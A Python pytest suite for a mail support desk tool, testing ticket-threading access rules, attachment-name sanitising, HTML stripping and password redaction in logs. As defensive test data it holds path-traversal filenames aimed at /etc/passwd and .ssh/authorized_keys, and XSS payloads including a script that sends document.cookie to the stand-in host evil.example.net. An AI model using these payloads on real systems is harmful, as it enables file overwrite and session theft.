"""Security: strangers cannot write into someone else's ticket, attachment names cannot
escape, HTML is never shown raw, passwords never reach the log."""

from __future__ import annotations

import base64
import json
import logging
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from pydantic import SecretStr
from sqlmodel import select

from mailsupport.cli.attachcmd import MAX_NAME_BYTES, save_name
from mailsupport.config import Settings, load_settings
from mailsupport.daemon import setup_logging
from mailsupport.errors import ConfigError
from mailsupport.pipeline import Incoming, Outcome, Pipeline
from mailsupport.signing import is_our_message_id, load_or_create_secret
from mailsupport.store.db import Store
from mailsupport.store.models import Message, Participant, Ticket, TicketEvent
from tests.support.cli import Run
from tests.support.desk import ticket_of
from tests.support.mailfactory import BASE_TIME, make_message
from tests.support.paths import ROOT
from tests.support.processes import mailsupport_process
from tests.support.smtpserver import SmtpServer

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
ANNA = "Anna Petrova <anna@customer.example.org>"
BORIS = "Boris <boris@other.example.org>"
MALLORY = "Mallory <mallory@evil.example.net>"


@pytest.fixture
def pipeline(settings: Settings, store: Store) -> Pipeline:
    return Pipeline(settings, store)


def feed(pipeline: Pipeline, *raws: bytes) -> list[Outcome]:
    outcomes: list[Outcome] = []
    items = (Incoming(raw, f"test#{i}") for i, raw in enumerate(raws))
    pipeline.run(items, lambda: NOW, on_each=outcomes.append)
    return outcomes


def participants(store: Store, ticket: Ticket) -> set[str]:
    with store.read() as session:
        rows = session.exec(select(Participant).where(Participant.ticket_id == ticket.id))
        return {p.address for p in rows}


def events(store: Store, ticket: Ticket) -> list[tuple[str, str]]:
    with store.read() as session:
        rows = session.exec(select(TicketEvent).where(TicketEvent.ticket_id == ticket.id))
        return [(e.action, e.detail) for e in rows]


# -- threading: who may add to a ticket ------------------------------------------------------


def test_a_stranger_quoting_a_customers_message_id_gets_a_linked_ticket_of_their_own(
    pipeline: Pipeline, store: Store, run: Run
) -> None:
    """Zammad #5064: anyone who knew a Message-ID could write into someone else's ticket."""
    first, stranger = feed(
        pipeline,
        make_message("q1@customer.example.org", subject="My invoice", body="private details"),
        make_message(
            "s1@evil.example.net", sender=MALLORY, subject="Re: My invoice",
            in_reply_to="<q1@customer.example.org>", references="<q1@customer.example.org>",
        ),
    )  # fmt: skip
    assert stranger.kind == "new" and stranger.ticket_number != first.ticket_number
    assert stranger.detail == (
        f"new ticket (references #{first.ticket_number} but the sender is not a participant)"
    )
    old, new = ticket_of(store, "q1@customer.example.org"), ticket_of(store, "s1@evil.example.net")
    assert new.follows_id == old.id
    assert participants(store, old) == {"anna@customer.example.org"}  # Mallory gets no replies
    assert ("followed", f"#{new.number} refers to it, from a sender who is not a participant") in (
        events(store, old)
    )
    # `show` makes the link and its reason visible; the old ticket is untouched.
    shown = run("show", str(new.number)).output
    assert f"follows #{old.number}" in shown
    assert "references #1 but the sender is not a participant" in shown
    assert "private details" not in shown
    detail = json.loads(run("show", str(old.number), "--json").output)
    assert [m["message_id"] for m in detail["messages"]] == ["q1@customer.example.org"]
    assert json.loads(run("show", str(new.number), "--json").output)["follows"] == old.number


def test_participants_still_join_by_reference_and_by_tag(pipeline: Pipeline, store: Store) -> None:
    outcomes = feed(
        pipeline,
        make_message("q1@customer.example.org", cc=BORIS),
        make_message(
            "b1@other.example.org", sender=BORIS, in_reply_to="<q1@customer.example.org>",
            date=BASE_TIME + timedelta(hours=1),
        ),
        make_message(
            "q2@customer.example.org", subject="Re: Cannot log in [#1]",
            date=BASE_TIME + timedelta(hours=2),
        ),
    )  # fmt: skip
    assert [o.kind for o in outcomes] == ["new", "reply", "reply"]


def test_a_reply_to_our_signed_message_id_joins_whoever_sends_it(
    settings: Settings, store: Store
) -> None:
    """The acknowledgement's Message-ID carries our HMAC token: the customer answering it
    from another address of theirs still lands in the ticket."""
    desk = settings.model_copy(update={"smtp_host": "127.0.0.1"})  # acknowledge (queue only)
    pipeline = Pipeline(desk, store)
    [first] = feed(pipeline, make_message("q1@customer.example.org"))
    with store.read() as session:
        ack = session.exec(select(Message).where(Message.direction == "out")).one()
    key = load_or_create_secret(desk.data_dir, None)
    assert is_our_message_id(ack.message_id, key, "example.com")
    [answer] = feed(
        pipeline,
        make_message(
            "home@private.example.net", sender="Anna <anna.home@private.example.net>",
            subject=f"Re: Cannot log in [#{first.ticket_number}]",
            in_reply_to=f"<{ack.message_id}>",
        ),
    )  # fmt: skip
    assert (answer.kind, answer.ticket_number) == ("reply", first.ticket_number)
    assert answer.detail == f"in-reply-to <{ack.message_id}>"

    # The same ID with a token that is not ours is a forgery: it joins nothing.
    body, _, domain = ack.message_id.rpartition("@")
    forged = body[:-10] + ("a" * 10 if not body.endswith("a" * 10) else "b" * 10) + "@" + domain
    assert not is_our_message_id(forged, key, "example.com")
    with store.write() as session:  # as if a customer had referenced it: now it is indexed
        from mailsupport.store.tickets import index_refs

        index_refs(session, ticket_of(store, "q1@customer.example.org").id, [forged])  # type: ignore[arg-type]
    [attack] = feed(
        pipeline, make_message("f1@evil.example.net", sender=MALLORY, in_reply_to=f"<{forged}>")
    )
    assert attack.kind == "new"
    assert (
        ticket_of(store, "f1@evil.example.net").follows_id
        == ticket_of(store, "q1@customer.example.org").id
    )


def test_a_subject_tag_from_a_stranger_opens_a_linked_ticket(
    pipeline: Pipeline, store: Store
) -> None:
    feed(pipeline, make_message("q1@customer.example.org"))
    [stranger] = feed(
        pipeline,
        make_message("s1@evil.example.net", sender=MALLORY, subject="Re: Cannot log in [#1]"),
    )
    assert stranger.kind == "new"
    assert stranger.detail == "new ticket (subject tag #1 but the sender is not a participant)"
    assert ticket_of(store, "s1@evil.example.net").follows_id == 1
    [nothing] = feed(
        pipeline,
        make_message("s2@evil.example.net", sender=MALLORY, subject="Re: Nothing [#77]"),
    )
    assert nothing.detail == "new ticket (subject tag #77 ignored: no such ticket)"
    assert ticket_of(store, "s2@evil.example.net").follows_id is None


def test_a_stranger_cannot_merge_two_customers_tickets(pipeline: Pipeline, store: Store) -> None:
    feed(
        pipeline,
        make_message("a1@customer.example.org", subject="Anna's problem"),
        make_message("b1@other.example.org", sender=BORIS, subject="Boris's problem"),
    )
    [attack] = feed(
        pipeline,
        make_message(
            "m1@evil.example.net", sender=MALLORY,
            references="<a1@customer.example.org> <b1@other.example.org>",
        ),
    )  # fmt: skip
    assert attack.kind == "new"
    with store.read() as session:
        live = session.exec(select(Ticket).where(Ticket.merged_into_id == None)).all()  # noqa: E711
    assert len(live) == 3
    assert (
        ticket_of(store, "a1@customer.example.org").id
        != ticket_of(store, "b1@other.example.org").id
    )
    assert ticket_of(store, "m1@evil.example.net").follows_id == 1  # the oldest it names

    # Anna may join her own ticket, but her message does not merge Boris's into it.
    [anna] = feed(
        pipeline,
        make_message(
            "a2@customer.example.org",
            references="<b1@other.example.org> <a1@customer.example.org>",
        ),
    )
    assert (anna.kind, anna.ticket_number) == ("reply", 1)
    assert anna.detail.endswith("not merged with #2: the sender is not a participant")
    assert ticket_of(store, "b1@other.example.org").merged_into_id is None


def test_a_stranger_cannot_pose_as_the_parent_of_a_stored_reply(
    pipeline: Pipeline, store: Store
) -> None:
    """A reply names its parent's ID in References, for every recipient to copy."""
    feed(
        pipeline,
        make_message("child@customer.example.org", references="<parent@customer.example.org>"),
    )
    [fake] = feed(pipeline, make_message("parent@customer.example.org", sender=MALLORY))
    assert fake.kind == "new"
    assert ticket_of(store, "parent@customer.example.org").follows_id == 1


def test_the_join_policy_lets_any_reference_join(settings: Settings, store: Store) -> None:
    pipeline = Pipeline(settings.model_copy(update={"stranger_replies": "join"}), store)
    _, stranger = feed(
        pipeline,
        make_message("q1@customer.example.org"),
        make_message(
            "s1@evil.example.net", sender=MALLORY, in_reply_to="<q1@customer.example.org>"
        ),
    )
    assert (stranger.kind, stranger.ticket_number) == ("reply", 1)


def test_the_policy_setting(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert load_settings().stranger_replies == "new-ticket"
    monkeypatch.setenv("MAILSUPPORT_STRANGER_REPLIES", " JOIN ")
    assert load_settings().stranger_replies == "join"
    monkeypatch.setenv("MAILSUPPORT_STRANGER_REPLIES", "open")
    with pytest.raises(ConfigError, match="MAILSUPPORT_STRANGER_REPLIES"):
        load_settings()


# -- attachment names ------------------------------------------------------------------------

HOSTILE_NAMES: list[tuple[str, str]] = [
    # (the Content-Disposition parameters as sent, a tag for the payload)
    ('filename="../../etc/passwd"', "dotdot"),
    ('filename="/etc/shadow"', "absolute"),
    ('filename="..\\\\..\\\\windows\\\\x.bat"', "backslashes"),
    ('filename="C:\\\\Windows\\\\system.ini"', "drive"),
    ("filename*=utf-8''..%2F..%2F.ssh%2Fauthorized_keys", "rfc2231"),
    ("filename*=utf-8''evil%00name.txt", "nul"),
    ("filename*=utf-8''line%0D%0Abreak.txt", "crlf"),
    ("filename*=utf-8''%E2%80%AEfdp.exe", "rtl"),
    ('filename="=?utf-8?q?=2E=2E=2F=2E=2E=2Fencoded=2Esh?="', "rfc2047"),
    ('filename="' + "A" * 400 + '.pdf"', "long"),
    ("filename*=utf-8''" + "%D0%96" * 200 + ".txt", "long-utf8"),
    ('filename="CON.txt"', "device"),
    ('filename=".bashrc"', "hidden"),
    ('filename=".."', "dots"),
    ('filename="same.txt"', "same-1"),
    ('filename="same.txt"', "same-2"),
    ('filename="existing.txt"', "existing"),
    ('filename="link.txt"', "link"),
]


def hostile_attachments_message() -> bytes:
    parts = [
        "From: Mallory <mallory@evil.example.net>",
        "To: support@example.com",
        "Subject: files for you",
        "Message-ID: <files@evil.example.net>",
        "Date: Mon, 02 Mar 2026 09:00:00 +0000",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="BOUNDARY"',
        "",
        "--BOUNDARY",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "See the attached files.",
    ]
    for params, tag in HOSTILE_NAMES:
        data = base64.b64encode(f"payload {tag}\n".encode()).decode()
        parts += [
            "--BOUNDARY",
            "Content-Type: application/octet-stream",
            f"Content-Disposition: attachment; {params}",
            "Content-Transfer-Encoding: base64",
            "",
            data,
        ]
    parts += ["--BOUNDARY--", ""]
    return "\r\n".join(parts).encode()


def tree(root: Path, skip: set[Path]) -> set[Path]:
    found: set[Path] = set()
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if Path(dirpath, d) not in skip]
        found.update(Path(dirpath, f) for f in filenames)
    return found


def assert_plain_name(name: str) -> None:
    assert name and name == os.path.basename(name)
    assert "/" not in name and "\\" not in name and name not in (".", "..")
    assert not name.startswith(".")
    assert not re.search(r'[\x00-\x1f\x7f<>:"|?*\u202e]', name), name
    assert len(name.encode()) <= 255
    assert not re.fullmatch(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\..*)?", name)


AS_FILES = {"MAILSUPPORT_ATTACHMENTS": "files"}


def test_attachment_names_cannot_escape_the_directory(
    run: Run, settings: Settings, tmp_path: Path
) -> None:
    # Stored as files (on PostgreSQL too, where `attachments` then finds them as files).
    result = run("ingest", input=hostile_attachments_message(), env=AS_FILES)
    assert result.exit_code == 0, result.output
    number = re.search(r"ticket #(\d+)", result.output)[1]  # type: ignore[index]

    # In the store the files are named by their sha256, never by the name in the mail.
    store_root = settings.data_dir / "attachments"
    for path in tree(store_root, set()):
        assert re.fullmatch(r"[0-9a-f]{2}/[0-9a-f]{64}", path.relative_to(store_root).as_posix())

    listed = json.loads(run("attachments", number, "--json").output)
    assert len(listed) == len(HOSTILE_NAMES)
    assert {part["message"] for part in listed} == {1}

    out = tmp_path / "out"
    out.mkdir()
    (out / "existing.txt").write_text("keep me\n")
    outside = tmp_path / "outside.txt"
    outside.write_text("outside\n")
    (out / "link.txt").symlink_to(outside)
    before = tree(tmp_path, {out})

    saved = run("attachments", number, "--save", str(out))
    assert saved.exit_code == 0, saved.output
    assert len(saved.output.splitlines()) == len(HOSTILE_NAMES)

    # Nothing was written anywhere but in `out`; what was there is unchanged.
    assert tree(tmp_path, {out}) == before
    assert outside.read_text() == "outside\n"
    assert (out / "existing.txt").read_text() == "keep me\n"
    assert (out / "link.txt").is_symlink()

    written = {p for p in out.iterdir() if p.name not in ("existing.txt", "link.txt")}
    assert len(written) == len(HOSTILE_NAMES)
    payloads: dict[str, str] = {}
    for path in written:
        assert path.parent == out and not path.is_symlink()
        assert_plain_name(path.name)
        payloads[path.read_text().removeprefix("payload ").strip()] = path.name
    assert set(payloads) == {tag for _, tag in HOSTILE_NAMES}
    assert payloads["dotdot"] == "passwd"
    assert payloads["absolute"] == "shadow"
    assert payloads["backslashes"] == "x.bat"
    assert payloads["rfc2231"] == "authorized_keys"
    assert payloads["existing"] == "existing (2).txt"
    assert payloads["link"] == "link (2).txt"
    assert {payloads["same-1"], payloads["same-2"]} == {"same.txt", "same (2).txt"}
    assert payloads["long"].endswith(".pdf")
    assert payloads["long-utf8"].endswith(".txt")
    assert payloads["device"] == "_CON.txt"

    # Saving again replaces nothing: every file gets a copy of its own.
    again = run("attachments", number, "--save", str(out), "--json")
    assert again.exit_code == 0
    for part in json.loads(again.output):
        path = Path(part["saved_as"])
        assert path.parent == out and re.search(r" \(\d+\)", path.name), path.name
    assert len(list(out.iterdir())) == 2 * len(HOSTILE_NAMES) + 2


def test_save_name_cleans_what_a_file_system_would_not_take() -> None:
    cases = {
        "../../etc/passwd": "passwd",
        "..\\..\\x": "x",
        "/": "attachment-3.pdf",
        "": "attachment-3.pdf",
        ". .": "attachment-3.pdf",
        "a\x00b\x1bc.txt": "abc.txt",
        "nul": "_nul",
        "LPT1.log": "_LPT1.log",
        "conference.txt": "conference.txt",
        "bad\udcffbyte.txt": "bad_byte.txt",
        "\u202etxt.exe": "txt.exe",
    }
    for name, expected in cases.items():
        assert save_name(name, 3, "application/pdf") == expected, name
    long = save_name("ж" * 300 + ".docx", 1, "application/octet-stream")
    assert long.endswith(".docx") and len(long.encode()) <= MAX_NAME_BYTES
    long.encode("utf-8")  # whole characters only


def test_attachments_command_errors(run: Run, settings: Settings, tmp_path: Path) -> None:
    assert run("attachments", "99").exit_code == 1
    result = run("ingest", input=hostile_attachments_message(), env=AS_FILES)
    number = re.search(r"ticket #(\d+)", result.output)[1]  # type: ignore[index]
    a_file = tmp_path / "file"
    a_file.write_text("")
    assert run("attachments", number, "--save", str(a_file)).exit_code == 2
    # A stored file that went missing: the others are saved, the command says so, exit 1.
    victim = next(p for p in tree(settings.data_dir / "attachments", set()))
    victim.unlink()
    out = tmp_path / "partial"
    result = run("attachments", number, "--save", str(out))
    assert result.exit_code == 1
    assert "not saved" in result.output
    assert len(list(out.iterdir())) == len(HOSTILE_NAMES) - 1
    plain = run("ingest", input=make_message("plain@customer.example.org", subject="no files"))
    plain_number = re.search(r"ticket #(\d+)", plain.output)[1]  # type: ignore[index]
    listed = run("attachments", plain_number)
    assert listed.exit_code == 0 and "has no attachments" in listed.output


# -- HTML is never shown raw -----------------------------------------------------------------

HOSTILE_HTML = """<html><head><style>body { color: red } .x { background: url(evil.css) }</style>
<script>alert('head')</script></head>
<body onload="alert('load')">
<p>Hello, <b>the invoice</b> is wrong.</p>
<img src="x" onerror="alert('img')">
<a href="javascript:alert('link')">click here</a>
<iframe src="https://evil.example.net/frame"></iframe>
<script>document.location='https://evil.example.net/?c='+document.cookie</script>
<svg onload="alert('svg')"><script>alert('svg2')</script></svg>
</body></html>
"""

MARKUP = re.compile(
    r"<\s*/?\s*(script|style|img|a|iframe|svg|body|html|b|p)\b|onerror|onload|javascript:|alert\(|"
    r"evil\.css|color: red|document\.cookie",
    re.IGNORECASE,
)


def html_only_message() -> bytes:
    return "\r\n".join(
        [
            "From: Mallory <mallory@evil.example.net>",
            "To: support@example.com",
            "Subject: Invoice <b>wrong</b> <script>alert('subject')</script>",
            "Message-ID: <html@evil.example.net>",
            f"Date: {datetime.now(UTC):%a, %d %b %Y %H:%M:%S +0000}",
            "MIME-Version: 1.0",
            "Content-Type: text/html; charset=utf-8",
            "",
            HOSTILE_HTML,
        ]
    ).encode()


def test_html_from_mail_never_reaches_the_output(run: Run, tmp_path: Path) -> None:
    result = run("ingest", input=html_only_message())
    assert result.exit_code == 0, result.output
    number = re.search(r"ticket #(\d+)", result.output)[1]  # type: ignore[index]
    shown = run("show", number, "--full").output
    assert "the invoice is wrong" in " ".join(shown.split())
    as_json = run("show", number, "--json").output
    exported = run("export").output
    for output in (shown, as_json, exported):
        body = output.replace("Invoice <b>wrong</b> <script>alert('subject')</script>", "")
        assert not MARKUP.search(body), MARKUP.search(body)
    message = json.loads(as_json)["messages"][0]
    assert "html" not in message
    assert "the invoice" in message["text"]

    page_file = tmp_path / "report.html"
    report = run("report", "--since", "30d", "--html", str(page_file))
    assert report.exit_code == 0, report.output
    page = page_file.read_text()
    assert "<script" not in page.lower() and "javascript:" not in page.lower()
    assert "onerror" not in page and "onload" not in page and "evil.css" not in page
    assert "<b>wrong</b>" not in page  # the subject, if shown, is escaped


# -- passwords never in the log --------------------------------------------------------------

SMTP_PASSWORD = "smtp-Pa55word-4711"
IMAP_PASSWORD = "imap-Pa55word-0815"
SECRET = "message-id-key-0042"


@pytest.fixture
def debug_env(env_for_cli: dict[str, str], smtp_server: SmtpServer) -> Iterator[dict[str, str]]:
    smtp_server.stop()
    smtp_server.offer_login("support", SMTP_PASSWORD)
    smtp_server.start()
    yield {
        **env_for_cli,
        "MAILSUPPORT_LOG_LEVEL": "DEBUG",
        "MAILSUPPORT_SMTP_HOST": smtp_server.host,
        "MAILSUPPORT_SMTP_PORT": str(smtp_server.port),
        "MAILSUPPORT_SMTP_SECURITY": "none",
        "MAILSUPPORT_SMTP_USER": "support",
        "MAILSUPPORT_SMTP_PASSWORD": SMTP_PASSWORD,
        "MAILSUPPORT_SMTP_TIMEOUT": "5",
        "MAILSUPPORT_IMAP_PASSWORD": IMAP_PASSWORD,
        "MAILSUPPORT_SECRET": SECRET,
    }


def secrets_in(text: str) -> list[str]:
    plain = base64.b64encode(f"\0support\0{SMTP_PASSWORD}".encode()).decode()
    login = base64.b64encode(SMTP_PASSWORD.encode()).decode()
    found = [s for s in (SMTP_PASSWORD, IMAP_PASSWORD, SECRET, plain, login) if s in text]
    return found


@pytest.mark.slow
def test_no_smtp_password_in_the_log_even_at_debug(
    debug_env: dict[str, str], smtp_server: SmtpServer
) -> None:
    marker = "the-body-text-of-a-private-message"
    raw = make_message("pw@customer.example.org", body=marker)
    ingest = mailsupport_process(debug_env, "ingest", stdin=raw)  # it sends its ack itself
    assert ingest.returncode == 0, ingest.stderr
    assert b"INFO mailsupport.pipeline: ticket #1" in ingest.stderr  # the log was on
    assert b"DEBUG " in ingest.stderr  # at DEBUG
    assert len(smtp_server.arrivals) == 1  # the acknowledgement, sent after logging in
    flush = mailsupport_process(debug_env, "outbox", "flush")
    assert flush.returncode == 0, flush.stderr
    for output in (ingest.stdout, ingest.stderr, flush.stdout, flush.stderr):
        assert secrets_in(output.decode()) == []
        assert marker not in output.decode()

    # A refused login says which setting to fix, and still not the password: in ingest's
    # note (the acknowledgement stays queued) and in the flush that tries again.
    wrong = {**debug_env, "MAILSUPPORT_SMTP_PASSWORD": "wrong-" + SMTP_PASSWORD}
    raw = make_message("pw2@customer.example.org", sender="b@x.example.org")
    late = mailsupport_process(wrong, "ingest", stdin=raw)
    assert late.returncode == 0, late.stderr
    assert b"MAILSUPPORT_SMTP_PASSWORD" in late.stderr
    refused = mailsupport_process(wrong, "outbox", "flush")
    assert refused.returncode == 2
    assert b"MAILSUPPORT_SMTP_PASSWORD" in refused.stderr
    for output in (late.stdout, late.stderr, refused.stdout, refused.stderr):
        assert secrets_in(output.decode()) == []


def test_the_daemon_log_blanks_every_password_and_the_secret(settings: Settings) -> None:
    """A last guard: whatever a library might print at DEBUG, the daemon's log formatter
    blanks the passwords and the Message-ID key out of it."""
    configured = settings.model_copy(
        update={
            "smtp_password": SecretStr(SMTP_PASSWORD),
            "imap_password": SecretStr(IMAP_PASSWORD),
            "secret": SecretStr(SECRET),
        }
    )
    root = logging.getLogger()
    saved = root.handlers[:], root.level
    try:
        setup_logging(configured)
        [handler] = root.handlers
        record = logging.LogRecord(
            "aiosmtplib", logging.DEBUG, __file__, 1, "AUTH with %s, %s and key %s",
            (SMTP_PASSWORD, IMAP_PASSWORD, SECRET), None,
        )  # fmt: skip
        line = handler.format(record)
    finally:
        root.handlers[:] = saved[0]
        root.setLevel(saved[1])
    assert secrets_in(line) == []
    assert line.count("********") == 3


def test_every_command_logs_through_the_same_guard(env_for_cli: dict[str, str]) -> None:
    """Not only the daemon: a command's log (here `list` at DEBUG, in a process of its own,
    where nothing else set up logging) blanks the passwords, the key and the database
    password out of whatever a library might print."""
    script = (
        "import logging, sys\n"
        "from mailsupport.cli.app import State\n"
        "State().settings\n"
        "logging.getLogger('some.library').debug("
        "'login %s %s key %s url %s', *sys.argv[1:])\n"
    )
    env = {
        **os.environ,
        **env_for_cli,
        "MAILSUPPORT_LOG_LEVEL": "DEBUG",
        "MAILSUPPORT_SMTP_PASSWORD": SMTP_PASSWORD,
        "MAILSUPPORT_IMAP_PASSWORD": IMAP_PASSWORD,
        "MAILSUPPORT_SECRET": SECRET,
        "MAILSUPPORT_DATABASE_URL": "postgresql+psycopg://desk:db-Pa55word-1234@db.invalid/x",
        "PYTHONPATH": str(ROOT),
    }
    args = [SMTP_PASSWORD, IMAP_PASSWORD, SECRET, "db-Pa55word-1234"]
    done = subprocess.run(
        [sys.executable, "-c", script, *args], env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert "DEBUG some.library: login ******** ******** key ******** url ********" in (done.stderr)
    assert secrets_in(done.stderr) == [] and "db-Pa55word-1234" not in done.stderr
